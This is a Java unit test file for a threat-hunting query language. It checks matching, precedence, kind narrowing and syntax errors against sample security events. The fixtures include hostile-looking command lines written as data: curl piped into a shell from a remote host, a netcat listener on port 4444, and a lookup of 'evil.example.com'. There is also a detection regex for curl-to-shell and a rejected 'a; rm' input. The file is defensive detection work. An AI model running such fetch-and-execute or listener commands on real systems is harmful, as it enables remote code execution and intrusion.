package io.vigil.collector.hunt;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.vigil.proto.v1.Event;
import io.vigil.proto.v1.EventKind;
import io.vigil.proto.v1.FileEvent;
import io.vigil.proto.v1.NetworkConnection.Direction;
import io.vigil.proto.v1.ProcessRef;
import java.util.Optional;
import java.util.Set;
import org.junit.jupiter.api.Test;

/** The query language: what each operator matches, precedence, kind narrowing, and the errors. */
class HuntQueryTest {
  private static final ProcessRef BASH =
      SampleEvents.process(
          "e-bash", 100, "/usr/bin/bash", "bash -c curl -s http://x/i | sh", "alice");
  private static final ProcessRef CURL =
      SampleEvents.process(
          "e-curl", 101, "/usr/bin/curl", "curl -s http://127.0.0.1:8080/x", "alice");
  private static final ProcessRef SH =
      SampleEvents.process("e-sh", 102, "/usr/bin/dash", "sh", "alice");
  private static final ProcessRef NC =
      SampleEvents.process("e-nc", 200, "/usr/bin/nc", "nc -l 4444", "bob");

  private static final Event CURL_EXEC = SampleEvents.exec(1, CURL, BASH);
  private static final Event SH_EXEC = SampleEvents.exec(2, SH, BASH);
  private static final Event OUT =
      SampleEvents.connection(
          3, Direction.DIRECTION_OUTBOUND, "10.0.0.5", 40000, "127.0.0.77", 8080, CURL);
  private static final Event LISTEN =
      SampleEvents.connection(4, Direction.DIRECTION_LISTEN, "", 0, "0.0.0.0", 4444, NC);
  private static final Event DNS = SampleEvents.dns(5, "evil.example.com", CURL);
  private static final Event WRITE =
      SampleEvents.file(6, FileEvent.Action.ACTION_CREATE, "/tmp/x.sh", CURL);

  private static boolean hit(String q, Event e) {
    return HuntQuery.parse(q).matches(new HuntEvent("agent-1", "web1", e));
  }

  @Test
  void curlPipedToShellMatchesTheShellStartedByTheBashWhoseCommandLineHasBoth() {
    // As in docs/hunting.md: the shell whose parent ran curl into it.
    String q =
        "kind = exec and Image matches \"/(ba|da|z)?sh$\" and ParentCommandLine matches"
            + " \"curl[^|;&]*\\|\\s*(sudo\\s+)?(ba|da|z)?sh\\b\"";
    assertTrue(hit(q, SH_EXEC));
    assertFalse(hit(q, CURL_EXEC)); // curl is no shell
    ProcessRef echo = SampleEvents.process("e", 5, "/bin/bash", "bash -c echo id | sh", "alice");
    assertFalse(hit(q, SampleEvents.exec(8, SH, echo)));
    ProcessRef saved =
        SampleEvents.process("e", 6, "/bin/bash", "bash -c curl -o f http://x; sh f", "alice");
    assertFalse(hit(q, SampleEvents.exec(8, SH, saved)));
    assertFalse(
        hit(q, SampleEvents.exec(9, NC, SampleEvents.process("p", 1, "/bin/bash", "bash", "bob"))));
    assertFalse(hit(q, OUT));
  }

  @Test
  void textComparisonsIgnoreCaseAndFieldNamesMatchInAnyCase() {
    assertTrue(hit("image endswith \"/CURL\"", CURL_EXEC));
    assertTrue(hit("Image = /usr/bin/CURL", CURL_EXEC));
    assertTrue(hit("commandline startswith CURL", CURL_EXEC));
    assertFalse(hit("Image != /usr/bin/curl", CURL_EXEC));
    assertTrue(hit("Image != /usr/bin/curl", SH_EXEC));
    assertTrue(hit("User in (root, ALICE)", CURL_EXEC));
    assertFalse(hit("User in (root, bob)", CURL_EXEC));
  }

  @Test
  void aFieldTheEventDoesNotHaveMatchesNoComparisonNotEvenNotEqual() {
    assertFalse(hit("CommandLine != foo", OUT));
    assertFalse(hit("SourcePort < 100000", LISTEN)); // a listen has no source port
    assertTrue(hit("not CommandLine contains foo", OUT));
  }

  @Test
  void connectionFieldsNumbersCidrAndDirectionIncludingListeningSockets() {
    assertTrue(hit("DestinationIp = 127.0.0.77", OUT));
    assertTrue(hit("DestinationIp cidr 127.0.0.0/8 and DestinationPort >= 8080", OUT));
    assertFalse(hit("DestinationIp cidr 10.0.0.0/8", OUT));
    assertTrue(hit("SourceIp cidr 10.0.0.0/8", OUT));
    assertTrue(hit("Initiated = true and direction = outbound", OUT));
    assertTrue(hit("kind = connection and direction = listen and DestinationPort = 4444", LISTEN));
    assertFalse(hit("direction = listen", OUT));
    assertTrue(hit("DestinationPort > 8079 and DestinationPort <= 8080", OUT));
    assertFalse(hit("DestinationPort < 8080", OUT));
    assertTrue(hit("DestinationIp cidr ::/0 or DestinationIp cidr 0.0.0.0/0", OUT));
  }

  @Test
  void genericFieldsHostEntityPidKindActionAndSigmaNamesOfOtherKinds() {
    assertTrue(hit("host = WEB1", DNS));
    assertTrue(hit("host = agent-1", DNS));
    assertFalse(hit("host = db1", DNS));
    assertTrue(hit("entity = e-curl and pid = 101", DNS));
    assertTrue(hit("QueryName endswith \".example.com\"", DNS));
    assertTrue(hit("kind = file and action = create and TargetFilename startswith /tmp/", WRITE));
    assertFalse(hit("kind = file and action = delete", WRITE));
    assertTrue(hit("kind in (dns, file)", WRITE));
    assertFalse(hit("kind in (dns, exec)", WRITE));
  }

  @Test
  void andBindsTighterThanOrAndParenthesesAndNotChangeIt() {
    // a or (b and c): true through a
    assertTrue(hit("kind = dns or kind = exec and User = nobody", DNS));
    assertFalse(hit("(kind = dns or kind = exec) and User = nobody", DNS));
    assertTrue(hit("not (kind = exec) and not kind = connection", DNS));
    assertFalse(hit("NOT kind = dns", DNS));
  }

  @Test
  void kindsNarrowTheScanToWhatCanMatch() {
    assertEquals(
        Optional.of(Set.of(EventKind.EVENT_KIND_PROCESS_EXEC)),
        HuntQuery.parse("kind = exec and User = root").kinds());
    assertEquals(
        Optional.of(Set.of(EventKind.EVENT_KIND_CONNECTION)),
        HuntQuery.parse("DestinationIp = 1.2.3.4 and direction = outbound").kinds());
    assertEquals(
        Optional.of(Set.of(EventKind.EVENT_KIND_DNS, EventKind.EVENT_KIND_FILE)),
        HuntQuery.parse("QueryName contains x or TargetFilename contains y").kinds());
    assertEquals(Optional.empty(), HuntQuery.parse("host = a").kinds());
    assertEquals(Optional.empty(), HuntQuery.parse("not kind = exec").kinds());
    assertEquals(Optional.empty(), HuntQuery.parse("QueryName = a or host = b").kinds());
    assertEquals(Optional.of(Set.of()), HuntQuery.parse("kind = exec and kind = dns").kinds());
  }

  @Test
  void quotedValuesKeepSpacesAndEscapes() {
    Event e =
        SampleEvents.exec(
            1, SampleEvents.process("x", 1, "/bin/echo", "echo \"a b\" \\ c", "root"), SH);
    assertTrue(hit("CommandLine = \"echo \\\"a b\\\" \\\\ c\"", e));
  }

  @Test
  void aRegexThatBacktracksPastItsBudgetCountsAsAMatchInsteadOfHanging() {
    Event e =
        SampleEvents.exec(
            1, SampleEvents.process("x", 1, "/bin/x", "a".repeat(40) + "!", "root"), SH);
    long start = System.nanoTime();
    assertTrue(hit("CommandLine matches \"(.*a){8}b\"", e));
    // Unguarded, this expression takes tens of seconds on 41 chars (2e9 reads); generous bound.
    assertTrue(System.nanoTime() - start < 20_000_000_000L);
    assertFalse(hit("CommandLine matches \"^b\"", e));
  }

  @Test
  void errorsNameThePositionAndALikelyIntent() {
    HuntSyntaxException e =
        assertThrows(
            HuntSyntaxException.class,
            () -> HuntQuery.parse("kind = exec and Comandline contains x"));
    assertEquals(16, e.position());
    assertTrue(e.getMessage().contains("character 17"), e.getMessage());
    assertTrue(e.getMessage().contains("did you mean \"CommandLine\"?"), e.getMessage());

    e = assertThrows(HuntSyntaxException.class, () -> HuntQuery.parse("kind = exce"));
    assertTrue(e.getMessage().contains("did you mean \"exec\"?"), e.getMessage());
    e = assertThrows(HuntSyntaxException.class, () -> HuntQuery.parse("Image contain x"));
    assertTrue(e.getMessage().contains("did you mean \"contains\"?"), e.getMessage());
    assertEquals(6, e.position());

    assertError("CommandLine = \"abc", 14, "unterminated string");
    assertError("(kind = exec", 12, "expected ) to close");
    assertError("kind = exec)", 11, "without its (");
    assertError("kind = exec and", 15, "expected a field name");
    assertError("DestinationPort > eighty", 18, "not an integer");
    assertError("CommandLine matches \"(\"", 20, "not a regular expression");
    assertError("DestinationIp cidr 10.0.0.0/33", 19, "bad prefix length");
    assertError("DestinationIp cidr example.com", 19, "not an address");
    assertError("Image = a; rm", 9, "unexpected character");
    assertError("User in root", 8, "expected ( after in");
    assertError("", 0, "empty query");
    assertError("not ".repeat(40) + "kind = exec", 128, "nested deeper");
    assertThrows(HuntSyntaxException.class, () -> HuntQuery.parse("Image = " + "a".repeat(5000)));
    assertError("CommandLine matches \"" + "a".repeat(600) + "\"", 20, "longer than 512");
  }

  private static void assertError(String q, int position, String part) {
    HuntSyntaxException e = assertThrows(HuntSyntaxException.class, () -> HuntQuery.parse(q));
    assertTrue(e.getMessage().contains(part), e.getMessage());
    assertEquals(position, e.position(), e.getMessage());
  }
}
